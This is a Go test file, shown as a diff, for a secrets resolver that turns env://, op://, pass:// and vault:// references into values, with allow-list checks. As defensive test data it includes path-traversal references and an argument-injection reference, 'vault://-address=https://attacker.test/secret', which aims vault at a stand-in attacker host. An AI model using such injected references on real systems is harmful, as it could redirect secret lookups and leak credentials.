@@ -0,0 +1,124 @@
+package secrets
+
+import (
+	"context"
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// fakeResolver returns a resolver whose secret managers answer from
+// outputs, keyed by the command line, and whose environment is env.
+func fakeResolver(allow []string, outputs, env map[string]string) *Resolver {
+	r := NewResolver(allow)
+
+	r.run = func(_ context.Context, name string, args ...string) (string, error) {
+		out, ok := outputs[strings.Join(append([]string{name}, args...), " ")]
+		if !ok {
+			return "", errors.New("exit status 1")
+		}
+
+		return out, nil
+	}
+
+	r.getenv = func(name string) string { return env[name] }
+
+	return r
+}
+
+func TestIsReference(t *testing.T) {
+	for value, want := range map[string]bool{
+		"env://TOKEN":            true,
+		"op://Eng/GitHub/token":  true,
+		"pass://ci/npm":          true,
+		"vault://secret/app#key": true,
+		"https://example.com":    false,
+		"plain value":            false,
+		"op:/Eng/GitHub":         false,
+	} {
+		if got := IsReference(value); got != want {
+			t.Errorf("IsReference(%q) = %v, want %v", value, got, want)
+		}
+	}
+}
+
+func TestResolve(t *testing.T) {
+	r := fakeResolver(
+		[]string{"env://GITHUB_TOKEN", "op://Eng/*", "pass://ci/*", "vault://secret/*"},
+		map[string]string{
+			"op read --no-newline op://Eng/GitHub/token": "ghp_1",
+			"pass show -- ci/npm":                        "npm_2\nlogin: ci\n",
+			"vault kv get -field=value -- secret/app":    "v3\n",
+			"vault kv get -field=key -- secret/app":      "k4\n",
+		},
+		map[string]string{"GITHUB_TOKEN": "env_0", "AWS_SECRET_ACCESS_KEY": "aws"},
+	)
+
+	for ref, want := range map[string]string{
+		"env://GITHUB_TOKEN":     "env_0",
+		"op://Eng/GitHub/token":  "ghp_1",
+		"pass://ci/npm":          "npm_2",
+		"vault://secret/app":     "v3",
+		"vault://secret/app#key": "k4",
+	} {
+		got, err := r.Resolve(t.Context(), ref)
+		if err != nil || got != want {
+			t.Errorf("Resolve(%q) = %q, %v, want %q", ref, got, err, want)
+		}
+	}
+
+	if _, err := r.Resolve(t.Context(), "env://AWS_SECRET_ACCESS_KEY"); !errors.Is(err, ErrNotAllowed) {
+		t.Errorf("Resolve() of an unlisted reference error = %v, want ErrNotAllowed", err)
+	}
+
+	for _, ref := range []string{"vault://secret/../prod#key", "pass://ci/./../root", "op://Eng/../Finance/token"} {
+		if _, err := r.Resolve(t.Context(), ref); !errors.Is(err, ErrNotAllowed) {
+			t.Errorf("Resolve(%q) error = %v, want ErrNotAllowed for a path that leaves the allowed prefix", ref, err)
+		}
+	}
+
+	broad := fakeResolver([]string{"vault://*", "pass://*"}, map[string]string{
+		"vault kv get -field=value -- -address=https://attacker.test/secret": "leaked",
+	}, nil)
+
+	for _, ref := range []string{"vault://-address=https://attacker.test/secret", "pass://--help"} {
+		if got, err := broad.Resolve(t.Context(), ref); err == nil || !strings.Contains(err.Error(), "must not start with '-'") {
+			t.Errorf("Resolve(%q) = %q, %v, want a path that would be read as a flag refused", ref, got, err)
+		}
+	}
+
+	if _, err := r.Resolve(t.Context(), "op://Eng/Missing/token"); err == nil || errors.Is(err, ErrNotAllowed) {
+		t.Errorf("Resolve() of a failed lookup error = %v, want the lookup failure", err)
+	}
+}
+
+func TestResolveEnvironment(t *testing.T) {
+	r := fakeResolver([]string{"op://Eng/*", "env://NPM_TOKEN"}, map[string]string{
+		"op read --no-newline op://Eng/GitHub/token": "ghp_1",
+	}, map[string]string{"NPM_TOKEN": "npm_2"})
+
+	env := map[string]string{
+		"GITHUB_TOKEN": "op://Eng/GitHub/token",
+		"NPM_TOKEN":    "env://NPM_TOKEN",
+		"LOG_LEVEL":    "debug",
+	}
+
+	names, err := r.ResolveEnvironment(t.Context(), env)
+	if err != nil {
+		t.Fatalf("ResolveEnvironment() error = %v", err)
+	}
+
+	if !slices.Equal(names, []string{"GITHUB_TOKEN", "NPM_TOKEN"}) {
+		t.Fatalf("names = %q, want the two references", names)
+	}
+
+	if env["GITHUB_TOKEN"] != "ghp_1" || env["NPM_TOKEN"] != "npm_2" || env["LOG_LEVEL"] != "debug" {
+		t.Fatalf("env = %v, want references replaced and other values kept", env)
+	}
+
+	_, err = r.ResolveEnvironment(t.Context(), map[string]string{"AWS": "env://AWS_SECRET_ACCESS_KEY"})
+	if !errors.Is(err, ErrNotAllowed) || !strings.Contains(err.Error(), "AWS") {
+		t.Fatalf("ResolveEnvironment() error = %v, want ErrNotAllowed naming the variable", err)
+	}
+}